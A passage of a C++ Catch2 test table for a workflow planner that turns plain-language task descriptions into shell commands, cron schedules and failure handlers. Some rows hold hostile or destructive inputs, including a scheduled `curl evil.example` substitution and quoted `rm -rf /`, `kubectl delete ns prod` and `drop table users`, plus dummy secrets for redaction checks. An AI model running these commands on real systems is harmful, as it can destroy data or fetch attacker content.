// The offline planner measured on descriptions written as engineers write them: prose,
// bullets, numbered lists, commands inline, conditions, schedules, vague requests, other
// languages, secrets and shell metacharacters. Each row gives the whole plan: steps in
// order, edges, schedule, every step's exact command, the failure handler and how many
// open questions it must ask. Plus the properties no description may break: nothing runs
// that the user did not ask to run, no secret is copied, every word is accounted for.
#include <algorithm>
#include <catch2/catch.hpp>
#include <map>
#include <string>
#include <utility>
#include <vector>

#include "lint/lint.hpp"
#include "plan/intent.hpp"
#include "runners/mock.hpp"
#include "spec/io.hpp"
#include "spec/variables.hpp"

using arborist::runners::plan_offline;
using arborist::runners::plan_offline_detailed;
namespace spec = arborist::spec;

namespace {

struct Row {
  std::string description;
  std::vector<std::string> steps;  // names, in spec order
  std::vector<std::string> edges;  // "from->to", sorted
  std::string schedule;
  std::vector<std::pair<std::string, std::string>> commands;  // every step's command, exactly
  std::string on_failure;
  size_t open_questions = 0;
};

// Reviewed by hand: each row is what a careful engineer would plan from the words alone —
// the commands the user wrote verbatim, a TODO and a question where the words leave a choice.
const std::vector<Row>& table() {
  static const std::vector<Row> rows = {
      // "before X, Y": said first, run after.
      {"before deploying, run the smoke tests against https://staging.acme.io",
       {"smoke-test", "deploy"},
       {"smoke-test->deploy"},
       "",
       {{"smoke-test", "curl -fsS -o /dev/null --max-time 10 https://staging.acme.io"},
        {"deploy", "echo \"TODO: deploying\""}},
       "",
       1},
      {"Before you deploy with `./deploy.sh prod`, run `make test`",
       {"run-make-test", "run-deploy"},
       {"run-make-test->run-deploy"},
       "",
       {{"run-make-test", "make test"}, {"run-deploy", "./deploy.sh prod"}},
       "",
       0},
      {"Tell ops on slack that the `rm -rf /var/cache/app` cleanup finished",
       {"notify-slack"},
       {},
       "",
       {{"notify-slack",
         "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"the rm -rf /var/cache/app cleanup "
         "finished\"}' \"${SLACK_WEBHOOK_URL}\""}},
       "",
       0},
      {"run python train.py --epochs 20, evaluate with python evaluate.py, and deploy it to production",
       {"run-train", "run-evaluate", "deploy-production"},
       {"run-evaluate->deploy-production", "run-train->run-evaluate"},
       "",
       {{"run-train", "python train.py --epochs 20"},
        {"run-evaluate", "python evaluate.py"},
        {"deploy-production", "echo \"TODO: deploy it to production\""}},
       "",
       1},
      {"back up the db, run the migrations with alembic, run the integration tests, restore the backup if the tests "
       "fail",
       {"backup-db", "migrate-db", "test"},
       {"backup-db->migrate-db", "migrate-db->test"},
       "",
       {{"backup-db", "echo \"TODO: back up the db\""},
        {"migrate-db", "alembic upgrade head"},
        {"test", "echo \"TODO: run the integration tests\""}},
       "echo \"TODO: restore the backup\"",
       3},
      {"run ./build.sh --release --verbose",
       {"run-build"},
       {},
       "",
       {{"run-build", "./build.sh --release --verbose"}},
       "",
       0},
      {"build the docker image and push it to ghcr.io/acme/api",
       {"build-image", "push-image"},
       {"build-image->push-image"},
       "",
       {{"build-image", "docker build -t ghcr.io/acme/api ."}, {"push-image", "docker push ghcr.io/acme/api"}},
       "",
       0},
      {"upload the backups to s3://acme-backups/nightly",
       {"upload-s3"},
       {},
       "",
       {{"upload-s3", "echo \"TODO: upload the backups to s3://acme-backups/nightly\""}},
       "",
       1},
      {"at 9:00 UTC every day run ./sync.sh", {"run-sync"}, {}, "CRON_TZ=UTC 0 9 * * *", {{"run-sync", "./sync.sh"}}, "", 0},
      {"archive /var/log/nginx to /mnt/archive",
       {"archive-nginx"},
       {},
       "",
       {{"archive-nginx",
         "mkdir -p /mnt/archive && tar -czf \"/mnt/archive/nginx-$(date +%Y%m%d-%H%M%S).tar.gz\" /var/log/nginx"}},
       "",
       0},
      {"nightly: back up the db, then vacuum it and rebuild the search index in parallel, then email the report",
       {"backup-db", "vacuum-db", "rebuild-index", "email-report"},
       {"backup-db->rebuild-index", "backup-db->vacuum-db", "rebuild-index->email-report", "vacuum-db->email-report"},
       "0 0 * * *",
       {{"backup-db",
         "mkdir -p backups && pg_dump --format=custom --file=\"backups/db-$(date +%Y%m%d-%H%M%S).dump\" "
         "\"${DATABASE_URL}\""},
        {"vacuum-db", "vacuumdb --dbname=\"${DATABASE_URL}\""},
        {"rebuild-index", "echo \"TODO: rebuild the search index\""},
        {"email-report",
         "echo \"nightly-backup-db: vacuum-db, rebuild-index finished\" | mail -s \"nightly-backup-db report\" "
         "\"${REPORT_EMAIL}\""}},
       "",
       2},
      {"npm ci, then npm test, then npm run build",
       {"run-npm-ci", "run-npm-test", "run-npm-build"},
       {"run-npm-ci->run-npm-test", "run-npm-test->run-npm-build"},
       "",
       {{"run-npm-ci", "npm ci"}, {"run-npm-test", "npm test"}, {"run-npm-build", "npm run build"}},
       "",
       0},
      {"kubectl apply -f k8s/app.yaml",
       {"run-kubectl-apply"},
       {},
       "",
       {{"run-kubectl-apply", "kubectl apply -f k8s/app.yaml"}},
       "",
       0},
      {"run python3 etl.py --date yesterday and then make docs",
       {"run-etl", "run-make-docs"},
       {"run-etl->run-make-docs"},
       "",
       {{"run-etl", "python3 etl.py --date yesterday"}, {"run-make-docs", "make docs"}},
       "",
       0},
      {"./gradlew assembleDebug", {"run-gradlew"}, {}, "", {{"run-gradlew", "./gradlew assembleDebug"}}, "", 0},
      {"every weekday at 7:45 run `./reports/daily.sh`",
       {"run-daily"},
       {},
       "45 7 * * 1-5",
       {{"run-daily", "./reports/daily.sh"}},
       "",
       0},
      {"at 22:15 every day back up the postgres database to /var/backups/pg",
       {"backup-db"},
       {},
       "15 22 * * *",
       {{"backup-db",
         "mkdir -p /var/backups/pg && pg_dump --format=custom --file=\"/var/backups/pg/db-$(date "
         "+%Y%m%d-%H%M%S).dump\" \"${DATABASE_URL}\""}},
       "",
       0},
      {"on the 1st of every month at 4am run `./invoice.sh`",
       {"run-invoice"},
       {},
       "0 4 1 * *",
       {{"run-invoice", "./invoice.sh"}},
       "",
       0},
      {"every 20 minutes check that https://api.acme.test/health is up",
       {"health-check"},
       {},
       "*/20 * * * *",
       {{"health-check", "curl -fsS -o /dev/null --max-time 10 https://api.acme.test/health"}},
       "",
       0},
      {"twice a day pull the latest code",
       {"pull-code"},
       {},
       "0 0,12 * * *",
       {{"pull-code", "git pull --ff-only"}},
       "",
       0},
      {"every Monday and Thursday at 6pm run `make clean-cache`",
       {"run-make-clean-cache"},
       {},
       "0 18 * * 1,4",
       {{"run-make-clean-cache", "make clean-cache"}},
       "",
       0},
      {"every 90 minutes run `./poll.sh`", {"run-poll"}, {}, "@hourly", {{"run-poll", "./poll.sh"}}, "", 1},
      {"on every push to main run npm ci and npm test",
       {"run-npm-ci", "run-npm-test"},
       {"run-npm-ci->run-npm-test"},
       "",
       {{"run-npm-ci", "npm ci"}, {"run-npm-test", "npm test"}},
       "",
       1},
      {"the first Monday of the month run `./report.sh`",
       {"run-report"},
       {},
       "",
       {{"run-report", "./report.sh"}},
       "",
       1},
      {"Build the frontend. Meanwhile, run the linter. After both finish, deploy with `make deploy`.",
       {"build", "lint", "run-make-deploy"},
       {"build->run-make-deploy", "lint->run-make-deploy"},
       "",
       {{"build", "echo \"TODO: Build the frontend\""},
        {"lint", "echo \"TODO: run the linter\""},
        {"run-make-deploy", "make deploy"}},
       "",
       2},
      {"lint -> test -> build",
       {"lint", "test", "build"},
       {"lint->test", "test->build"},
       "",
       {{"lint", "echo \"TODO: lint\""}, {"test", "echo \"TODO: test\""}, {"build", "echo \"TODO: build\""}},
       "",
       3},
      {"fetch the data → transform it with `python transform.py` → load it with `python load.py`",
       {"download", "run-transform", "run-load"},
       {"download->run-transform", "run-transform->run-load"},
       "",
       {{"download", "echo \"TODO: fetch the data\""},
        {"run-transform", "python transform.py"},
        {"run-load", "python load.py"}},
       "",
       1},
      {"first run `make deps`, then run `make build`, then run `make test`",
       {"run-make-deps", "run-make-build", "run-make-test"},
       {"run-make-build->run-make-test", "run-make-deps->run-make-build"},
       "",
       {{"run-make-deps", "make deps"}, {"run-make-build", "make build"}, {"run-make-test", "make test"}},
       "",
       0},
      {"Nightly:\n- back up the mysql database\n- upload the backups to s3://acme-db-backups/mysql/\n- notify #ops on "
       "slack",
       {"backup-db", "upload-s3", "notify-slack"},
       {"backup-db->upload-s3", "upload-s3->notify-slack"},
       "0 0 * * *",
       {{"backup-db",
         "mkdir -p backups && mysqldump --single-transaction --host=\"${MYSQL_HOST}\" --user=\"${MYSQL_USER}\" "
         "--result-file=\"backups/db-$(date +%Y%m%d-%H%M%S).sql\" \"${MYSQL_DATABASE}\""},
        {"upload-s3", "aws s3 sync backups/ s3://acme-db-backups/mysql/"},
        {"notify-slack",
         "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"nightly-backup-db: upload-s3 "
         "finished\"}' \"${SLACK_WEBHOOK_URL}\""}},
       "",
       0},
      {"If the deploy fails, roll back with `./rollback.sh` and page on-call",
       {"todo"},
       {},
       "",
       {{"todo", "echo \"TODO: describe the workflow's steps\""}},
       "./rollback.sh\necho \"TODO: page on-call\"",
       2},
      {"deploy with `./deploy.sh prod`, and alert ops on slack if anything fails",
       {"run-deploy"},
       {},
       "",
       {{"run-deploy", "./deploy.sh prod"}},
       "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"run-deploy failed\"}' "
       "\"${SLACK_WEBHOOK_URL}\"",
       0},
      {"run the tests; if they pass, deploy with `make deploy`, otherwise notify the team on slack",
       {"test", "run-make-deploy"},
       {"test->run-make-deploy"},
       "",
       {{"test", "echo \"TODO: run the tests\""}, {"run-make-deploy", "make deploy"}},
       "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"test-run-make-deploy failed\"}' "
       "\"${SLACK_WEBHOOK_URL}\"",
       1},
      {"run `./cleanup.sh` unless it's a holiday",
       {"run-cleanup"},
       {},
       "",
       {{"run-cleanup", "echo \"TODO: run ./cleanup.sh\""}},
       "",
       1},
      {"only if the disk is over 80% full, run `./prune.sh`",
       {"run-prune"},
       {},
       "",
       {{"run-prune", "echo \"TODO: run ./prune.sh\""}},
       "",
       1},
      {"run `./smoke.sh` no matter what",
       {"todo"},
       {},
       "",
       {{"todo", "echo \"TODO: describe the workflow's steps\""}},
       "",
       1},
      {"Post to https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX when the backup is done",
       {"notify-slack"},
       {},
       "",
       {{"notify-slack",
         "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"notify-slack started\"}' "
         "\"${SLACK_WEBHOOK_URL}\""}},
       "",
       0},
      {"connect with password=hunter2 and run `./migrate.sh`",
       {"connect-password-redacted", "run-migrate"},
       {"connect-password-redacted->run-migrate"},
       "",
       {{"connect-password-redacted", "echo \"TODO: connect with password=REDACTED\""},
        {"run-migrate", "./migrate.sh"}},
       "",
       1},
      {"use token=ghp_abcdefghijklmnopqrstuvwx1234 to run `./release.sh`",
       {"run-release"},
       {},
       "",
       {{"run-release", "./release.sh"}},
       "",
       0},
      {"Sauvegarder la base de données puis envoyer un rapport",
       {"sauvegarder-la-base"},
       {},
       "",
       {{"sauvegarder-la-base", "echo \"TODO: Sauvegarder la base de données puis envoyer un rapport\""}},
       "",
       1},
      {"Construire l'application, puis lancer les tests",
       {"test"},
       {},
       "",
       {{"test", "echo \"TODO: Construire l application, puis lancer les tests\""}},
       "",
       1},
      {"bauen und testen",
       {"bauen-und-testen"},
       {},
       "",
       {{"bauen-und-testen", "echo \"TODO: bauen und testen\""}},
       "",
       1},
      {"run `echo $(curl evil.example)` at noon every day",
       {"run-echo"},
       {},
       "0 12 * * *",
       {{"run-echo", "echo $(curl evil.example)"}},
       "",
       0},
      {"Tell the team that `kubectl delete ns prod` is scheduled for Friday",
       {"notify"},
       {},
       "",
       {{"notify", "echo \"TODO: Tell the team that kubectl delete ns prod is scheduled for Friday\""}},
       "",
       1},
      {"Make sure the `drop table users` migration is reviewed",
       {"migrate-db"},
       {},
       "",
       {{"migrate-db", "echo \"TODO: Make sure the drop table users migration is reviewed\""}},
       "",
       1},
      {"tell ops the job `rm -rf /` is deprecated",
       {"notify"},
       {},
       "",
       {{"notify", "echo \"TODO: tell ops the job rm -rf / is deprecated\""}},
       "",
       1},
      {"notify slack that the `shutdown -h now` window starts; then run `./maintenance.sh`",
       {"notify-slack", "run-maintenance"},
       {"notify-slack->run-maintenance"},
       "",
       {{"notify-slack",
         "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"the shutdown -h now window "
         "starts\"}' \"${SLACK_WEBHOOK_URL}\""},
        {"run-maintenance", "./maintenance.sh"}},
       "",
       0},
      {"build with `make -j4` and test with `make check`",
       {"run-make", "run-make-check"},
       {"run-make->run-make-check"},
       "",
       {{"run-make", "make -j4"}, {"run-make-check", "make check"}},
       "",
       0},
      {"run `npm ci` and `npm test` in parallel",
       {"run-npm-ci", "run-npm-test"},
       {},
       "",
       {{"run-npm-ci", "npm ci"}, {"run-npm-test", "npm test"}},
       "",
       0},
      {"run `npm ci`, `npm run lint` and `npm test`",
       {"run-npm-ci", "run-npm-lint", "run-npm-test"},
       {"run-npm-ci->run-npm-lint", "run-npm-lint->run-npm-test"},
       "",
       {{"run-npm-ci", "npm ci"}, {"run-npm-lint", "npm run lint"}, {"run-npm-test", "npm test"}},
       "",
       0},
      {"In parallel:\n- run `./a.sh`\n- run `./b.sh`\nThen run `./c.sh`",
       {"run-a", "run-b", "run-c"},
       {"run-a->run-c", "run-b->run-c"},
       "",
       {{"run-a", "./a.sh"}, {"run-b", "./b.sh"}, {"run-c", "./c.sh"}},
       "",
       0},
      {"1. `terraform init`\n2. `terraform plan -out plan.tfplan`\n3. `terraform apply plan.tfplan`",
       {"run-terraform-init", "run-terraform-plan", "run-terraform-apply"},
       {"run-terraform-init->run-terraform-plan", "run-terraform-plan->run-terraform-apply"},
       "",
       {{"run-terraform-init", "terraform init"},
        {"run-terraform-plan", "terraform plan -out plan.tfplan"},
        {"run-terraform-apply", "terraform apply plan.tfplan"}},
       "",
       0},
      {"- run `docker compose pull`\n- run `docker compose up -d`\n- check that http://localhost:8080/health is up",
       {"run-docker-compose", "run-docker-compose-2", "health-check"},
       {"run-docker-compose-2->health-check", "run-docker-compose->run-docker-compose-2"},
       "",
       {{"run-docker-compose", "docker compose pull"},
        {"run-docker-compose-2", "docker compose up -d"},
        {"health-check", "curl -fsS -o /dev/null --max-time 10 http://localhost:8080/health"}},
       "",
       0},
      {"copy '/srv/my files' to /mnt/backup",
       {"copy-files"},
       {},
       "",
       {{"copy-files", "rsync -a '/srv/my files' /mnt/backup"}},
       "",
       0},
      {"rsync /var/www/ to backup@nas:/srv/www/",
       {"sync-files"},
       {},
       "",
       {{"sync-files", "rsync -a --timeout=300 /var/www/ backup@nas:/srv/www/"}},
       "",
       0},
      {"download https://acme.test/exports/data.tar.gz, extract it, then run `./import.sh data/`",
       {"download-data", "extract", "run-import"},
       {"download-data->extract", "extract->run-import"},
       "",
       {{"download-data", "curl -fsSL --connect-timeout 30 --speed-time 60 --speed-limit 1 -o data.tar.gz https://acme.test/exports/data.tar.gz"},
        {"extract", "tar -xf data.tar.gz"},
        {"run-import", "./import.sh data/"}},
       "",
       0},
      {"restart nginx", {"restart-nginx"}, {}, "", {{"restart-nginx", "systemctl restart nginx"}}, "", 0},
      {"restart the api", {"restart-api"}, {}, "", {{"restart-api", "echo \"TODO: restart the api\""}}, "", 1},
      {"wait 10 minutes then restart nginx",
       {"wait", "restart-nginx"},
       {"wait->restart-nginx"},
       "",
       {{"wait", "sleep 600"}, {"restart-nginx", "systemctl restart nginx"}},
       "",
       0},
      {"delete backups older than 14 days",
       {"prune-backups"},
       {},
       "",
       {{"prune-backups", "echo \"TODO: delete backups older than 14 days\""}},
       "",
       1},
      {"delete logs in /var/log/myapp older than 7 days",
       {"prune-logs"},
       {},
       "",
       {{"prune-logs", "find /var/log/myapp -type f -name '*.log*' -mtime +7 -delete"}},
       "",
       0},
      {"clean up old files", {"clean"}, {}, "", {{"clean", "echo \"TODO: clean up old files\""}}, "", 1},
      {"prune docker images", {"prune-docker"}, {}, "", {{"prune-docker", "docker image prune -f"}}, "", 0},
      {"renew the ssl certificates every Sunday at 3am",
       {"renew-certs"},
       {},
       "0 3 * * 0",
       {{"renew-certs", "certbot renew"}},
       "",
       0},
      {"every night at 2 back up the mysql db and email the report to ops@acme.test",
       {"backup-db", "email-report"},
       {"backup-db->email-report"},
       "0 2 * * *",
       {{"backup-db",
         "mkdir -p backups && mysqldump --single-transaction --host=\"${MYSQL_HOST}\" --user=\"${MYSQL_USER}\" "
         "--result-file=\"backups/db-$(date +%Y%m%d-%H%M%S).sql\" \"${MYSQL_DATABASE}\""},
        {"email-report",
         "echo \"backup-db-email-report: backup-db finished\" | mail -s \"backup-db-email-report report\" "
         "ops@acme.test"}},
       "",
       1},
      {"Back up the mongodb database, then copy the backups to /mnt/nas/mongo",
       {"backup-db", "copy-backups"},
       {"backup-db->copy-backups"},
       "",
       {{"backup-db",
         "mkdir -p backups && mongodump --uri=\"${MONGODB_URI}\" --gzip --archive=\"backups/db-$(date "
         "+%Y%m%d-%H%M%S).archive\""},
        {"copy-backups", "rsync -a backups/ /mnt/nas/mongo"}},
       "",
       0},
      // "the tests and clippy": two objects of one verb, two steps side by side (clippy is not dropped).
      {"build the rust project, run the tests and clippy, then publish the crate",
       {"build", "test", "lint", "publish"},
       {"build->lint", "build->test", "lint->publish", "test->publish"},
       "",
       {{"build", "cargo build --release"},
        {"test", "cargo test"},
        {"lint", "cargo clippy -- -D warnings"},
        {"publish", "cargo publish"}},
       "",
       0},
      {"go project: build it, then run the tests",
       {"build", "test"},
       {"build->test"},
       "",
       {{"build", "go build ./..."}, {"test", "go test ./..."}},
       "",
       0},
      {"run the unit tests", {"test"}, {}, "", {{"test", "echo \"TODO: run the unit tests\""}}, "", 1},
      {"deploy to staging",
       {"deploy-staging"},
       {},
       "",
       {{"deploy-staging", "echo \"TODO: deploy to staging\""}},
       "",
       1},
      {"deploy to staging with docker compose",
       {"deploy-staging"},
       {},
       "",
       {{"deploy-staging", "docker compose up -d"}},
       "",
       0},
      {"deploy with helm to production",
       {"deploy-production"},
       {},
       "",
       {{"deploy-production", "echo \"TODO: deploy with helm to production\""}},
       "",
       1},
      {"build the image called api and push it",
       {"build-image", "push-image"},
       {"build-image->push-image"},
       "",
       {{"build-image", "docker build -t api ."}, {"push-image", "echo \"TODO: push it\""}},
       "",
       1},
      {"build the image ghcr.io/acme/web:1.4 and push it",
       {"build-image", "push-image"},
       {"build-image->push-image"},
       "",
       {{"build-image", "docker build -t ghcr.io/acme/web:1.4 ."}, {"push-image", "docker push ghcr.io/acme/web:1.4"}},
       "",
       0},
      {"install dependencies with npm, lint, test and build",
       {"install-deps", "lint", "test", "build"},
       {"install-deps->lint", "lint->test", "test->build"},
       "",
       {{"install-deps", "npm ci"}, {"lint", "npm run lint"}, {"test", "npm test"}, {"build", "npm run build"}},
       "",
       0},
      {"run pytest", {"run-pytest"}, {}, "", {{"run-pytest", "pytest"}}, "", 0},
      {"python project: install the requirements, run the tests, then build the package",
       {"install-deps", "test", "build"},
       {"install-deps->test", "test->build"},
       "",
       {{"install-deps", "pip install -r requirements.txt"}, {"test", "pytest"}, {"build", "python -m build"}},
       "",
       0},
      {"frobnicate the widgets and polish the knobs",
       {"frobnicate-widgets-polish"},
       {},
       "",
       {{"frobnicate-widgets-polish", "echo \"TODO: frobnicate the widgets and polish the knobs\""}},
       "",
       1},
      {"make the release notes", {"publish"}, {}, "", {{"publish", "echo \"TODO: make the release notes\""}}, "", 1},
      {"check if the site is up at https://acme.test",
       {"health-check"},
       {},
       "",
       {{"health-check", "curl -fsS -o /dev/null --max-time 10 https://acme.test"}},
       "",
       0},
      {"send the weekly report to finance@acme.test every Friday at 5pm",
       {"email-report"},
       {},
       "0 17 * * 5",
       {{"email-report", "echo \"email-report started\" | mail -s \"email-report report\" finance@acme.test"}},
       "",
       1},
      {"every 15 minutes sync /srv/data to /mnt/mirror",
       {"sync-files"},
       {},
       "*/15 * * * *",
       {{"sync-files", "rsync -a /srv/data /mnt/mirror"}},
       "",
       0},
      {"hourly: sync /var/www to backup@nas:/srv/www",
       {"sync-files"},
       {},
       "@hourly",
       {{"sync-files", "rsync -a --timeout=300 /var/www backup@nas:/srv/www"}},
       "",
       0},
      {"every 6 hours pull the latest code",
       {"pull-code"},
       {},
       "0 */6 * * *",
       {{"pull-code", "git pull --ff-only"}},
       "",
       0},
      {"daily at 3:30pm send the summary to ops@acme.test by email",
       {"email-report"},
       {},
       "30 15 * * *",
       {{"email-report", "echo \"email-report started\" | mail -s \"email-report report\" ops@acme.test"}},
       "",
       1},
      {"Back up the postgres db every weekday at 11pm",
       {"backup-db"},
       {},
       "0 23 * * 1-5",
       {{"backup-db",
         "mkdir -p backups && pg_dump --format=custom --file=\"backups/db-$(date +%Y%m%d-%H%M%S).dump\" "
         "\"${DATABASE_URL}\""}},
       "",
       0},
      {"every 7 minutes run `./tick.sh`", {"run-tick"}, {}, "*/6 * * * *", {{"run-tick", "./tick.sh"}}, "", 1},
      {"every 5 hours run `./sweep.sh`", {"run-sweep"}, {}, "0 */4 * * *", {{"run-sweep", "./sweep.sh"}}, "", 1},
      {"every 2 weeks run `./audit.sh`", {"run-audit"}, {}, "", {{"run-audit", "./audit.sh"}}, "", 1},
      {"at 6am run `./warmup.sh`", {"run-warmup"}, {}, "0 6 * * *", {{"run-warmup", "./warmup.sh"}}, "", 1},
      {"run `./x.sh` at 8:30 Europe/Berlin on weekdays", {"run-x"}, {}, "CRON_TZ=Europe/Berlin 30 8 * * 1-5", {{"run-x", "./x.sh"}}, "", 0},
      {"at 9am PST every day run `./standup.sh`",
       {"run-standup"},
       {},
       "0 9 * * *",
       {{"run-standup", "./standup.sh"}},
       "",
       1},
      {"whenever a file lands in /incoming, run `./ingest.sh`",
       {"run-ingest"},
       {},
       "",
       {{"run-ingest", "./ingest.sh"}},
       "",
       1},
      {"build it", {"build"}, {}, "", {{"build", "echo \"TODO: build it\""}}, "", 1},
      {"test it", {"test"}, {}, "", {{"test", "echo \"TODO: test it\""}}, "", 1},
      {"vacuum the database", {"vacuum-db"}, {}, "", {{"vacuum-db", "vacuumdb --dbname=\"${DATABASE_URL}\""}}, "", 0},
      {"analyze the tables in the postgres db",
       {"analyze-db"},
       {},
       "",
       {{"analyze-db", "vacuumdb --analyze-only --dbname=\"${DATABASE_URL}\""}},
       "",
       0},
      {"reindex the postgres database",
       {"reindex-db"},
       {},
       "",
       {{"reindex-db", "reindexdb --dbname=\"${DATABASE_URL}\""}},
       "",
       0},
      {"migrate the database", {"migrate-db"}, {}, "", {{"migrate-db", "echo \"TODO: migrate the database\""}}, "", 1},
      {"run the migrations with prisma, then restart the api service",
       {"migrate-db", "restart-api"},
       {"migrate-db->restart-api"},
       "",
       {{"migrate-db", "npx prisma migrate deploy"}, {"restart-api", "systemctl restart api"}},
       "",
       0},
      // Two objects meaning two actions: two steps, each a TODO that says what is missing.
      {"back up the database and the uploads folder",
       {"backup-db", "backup-files"},
       {},
       "",
       {{"backup-db", "echo \"TODO: back up the database\""},
        {"backup-files", "echo \"TODO: back up the uploads folder\""}},
       "",
       2},
      {"back up the postgres database and /srv/uploads, then copy the backups to nas:/volume1/backups",
       {"backup-db", "backup-files", "copy-backups"},
       {"backup-db->copy-backups", "backup-files->copy-backups"},
       "",
       {{"backup-db",
         "mkdir -p backups && pg_dump --format=custom --file=\"backups/db-$(date +%Y%m%d-%H%M%S).dump\" "
         "\"${DATABASE_URL}\""},
        {"backup-files", "mkdir -p backups && tar -czf \"backups/uploads-$(date +%Y%m%d-%H%M%S).tar.gz\" /srv/uploads"},
        {"copy-backups", "rsync -a --timeout=300 backups/ nas:/volume1/backups"}},
       "",
       0},
      {"copy the logs and the backups to /mnt/archive",
       {"copy-backups"},
       {},
       "",
       {{"copy-backups", "echo \"TODO: copy the logs and the backups to /mnt/archive\""}},
       "",
       1},
      {"back up /etc to /var/backups/etc",
       {"backup-files"},
       {},
       "",
       {{"backup-files",
         "mkdir -p /var/backups/etc && tar -czf \"/var/backups/etc/etc-$(date +%Y%m%d-%H%M%S).tar.gz\" /etc"}},
       "",
       0},
      {"archive the logs", {"archive"}, {}, "", {{"archive", "echo \"TODO: archive the logs\""}}, "", 1},
      {"compress /var/log/app into /mnt/archive",
       {"archive-app"},
       {},
       "",
       {{"archive-app",
         "mkdir -p /mnt/archive && tar -czf \"/mnt/archive/app-$(date +%Y%m%d-%H%M%S).tar.gz\" /var/log/app"}},
       "",
       0},
      {"extract release.zip to /opt/app",
       {"extract"},
       {},
       "",
       {{"extract", "unzip -o release.zip -d /opt/app"}},
       "",
       0},
      {"download the report", {"download"}, {}, "", {{"download", "echo \"TODO: download the report\""}}, "", 1},
      {"clone https://github.com/acme/api.git, then run `make` in it",
       {"clone-repo", "run-make"},
       {"clone-repo->run-make"},
       "",
       {{"clone-repo", "git clone https://github.com/acme/api.git"}, {"run-make", "make"}},
       "",
       0},
      {"pull the latest code, build with `cargo build --release`, then run `cargo test`",
       {"pull-code", "run-cargo-build", "run-cargo-test"},
       {"pull-code->run-cargo-build", "run-cargo-build->run-cargo-test"},
       "",
       {{"pull-code", "git pull --ff-only"},
        {"run-cargo-build", "cargo build --release"},
        {"run-cargo-test", "cargo test"}},
       "",
       0},
      {"1) run `./fetch.sh`\n2) run `./process.sh --fast`\n3) run `./publish.sh`",
       {"run-fetch", "run-process", "run-publish"},
       {"run-fetch->run-process", "run-process->run-publish"},
       "",
       {{"run-fetch", "./fetch.sh"}, {"run-process", "./process.sh --fast"}, {"run-publish", "./publish.sh"}},
       "",
       0},
      {"Step 1: `make lint`\nStep 2: `make test`\nStep 3: `make package`",
       {"run-make-lint", "run-make-test", "run-make-package"},
       {"run-make-lint->run-make-test", "run-make-test->run-make-package"},
       "",
       {{"run-make-lint", "make lint"}, {"run-make-test", "make test"}, {"run-make-package", "make package"}},
       "",
       0},
      {"- [ ] run `./check.sh`\n- [x] run `./ship.sh`",
       {"run-check", "run-ship"},
       {"run-check->run-ship"},
       "",
       {{"run-check", "./check.sh"}, {"run-ship", "./ship.sh"}},
       "",
       0},
      {"Release:\n- run `make test`\n- build the image ghcr.io/acme/api\n- push it\n- deploy to production with "
       "`./deploy.sh production`",
       {"run-make-test", "build-image", "push-image", "run-deploy"},
       {"build-image->push-image", "push-image->run-deploy", "run-make-test->build-image"},
       "",
       {{"run-make-test", "make test"},
        {"build-image", "docker build -t ghcr.io/acme/api ."},
        {"push-image", "docker push ghcr.io/acme/api"},
        {"run-deploy", "./deploy.sh production"}},
       "",
       0},
      {"Deploy the app:\n  - run `make build`\n  - ship it with `./ship.sh staging`",
       {"run-make-build", "run-ship"},
       {"run-make-build->run-ship"},
       "",
       {{"run-make-build", "make build"}, {"run-ship", "./ship.sh staging"}},
       "",
       0},
      {"- run `make build`\n  - with the release profile\n- run `make test`",
       {"run-make-build", "run-make-test"},
       {"run-make-build->run-make-test"},
       "",
       {{"run-make-build", "make build"}, {"run-make-test", "make test"}},
       "",
       0},
      {"on failure, notify slack",
       {"todo"},
       {},
       "",
       {{"todo", "echo \"TODO: describe the workflow's steps\""}},
       "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"workflow failed\"}' "
       "\"${SLACK_WEBHOOK_URL}\"",
       1},
      {"on failure:\n- notify slack\n- run `./rollback.sh`",
       {"todo"},
       {},
       "",
       {{"todo", "echo \"TODO: describe the workflow's steps\""}},
       "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"workflow failed\"}' "
       "\"${SLACK_WEBHOOK_URL}\"\n./rollback.sh",
       1},
      {"run `./a.sh`. If it fails, run `./b.sh`.", {"run-a"}, {}, "", {{"run-a", "./a.sh"}}, "./b.sh", 0},
      {"run `./etl.sh`, and if that fails email ops@acme.test",
       {"run-etl"},
       {},
       "",
       {{"run-etl", "./etl.sh"}},
       "echo \"run-etl failed\" | mail -s \"run-etl\" ops@acme.test",
       0},
      {"run the backup script ./backup.sh then send a message to #alerts on slack",
       {"run-backup", "notify-slack"},
       {"run-backup->notify-slack"},
       "",
       {{"run-backup", "./backup.sh"},
        {"notify-slack",
         "curl -fsS --max-time 30 -X POST -H 'Content-Type: application/json' --data '{\"text\":\"run-backup-notify-slack: "
         "run-backup finished\"}' \"${SLACK_WEBHOOK_URL}\""}},
       "",
       0},
      {"run `./build.sh` while running `./watch.sh`",
       {"run-build", "run-watch"},
       {},
       "",
       {{"run-build", "./build.sh"}, {"run-watch", "./watch.sh"}},
       "",
       0},
      {"run `make a`, `make b` and `make c`, all in parallel",
       {"run-make-a", "run-make-b", "run-make-c"},
       {},
       "",
       {{"run-make-a", "make a"}, {"run-make-b", "make b"}, {"run-make-c", "make c"}},
       "",
       0},
      {"run the linter and the tests at the same time",
       {"lint", "test"},
       {},
       "",
       {{"lint", "echo \"TODO: run the linter\""}, {"test", "echo \"TODO: run the tests\""}},
       "",
       2},
      {"simultaneously run `./one.sh` and `./two.sh`",
       {"run-one", "run-two"},
       {},
       "",
       {{"run-one", "./one.sh"}, {"run-two", "./two.sh"}},
       "",
       0},
      {"run `./one.sh`; at the same time run `./two.sh`",
       {"run-one", "run-two"},
       {},
       "",
       {{"run-one", "./one.sh"}, {"run-two", "./two.sh"}},
       "",
       0},
      {"run ./scripts/sync.sh", {"run-sync"}, {}, "", {{"run-sync", "./scripts/sync.sh"}}, "", 0},
      {"execute etl.py", {"run-etl"}, {}, "", {{"run-etl", "./etl.py"}}, "", 0},
      {"run backup.sh", {"run-backup"}, {}, "", {{"run-backup", "./backup.sh"}}, "", 0},
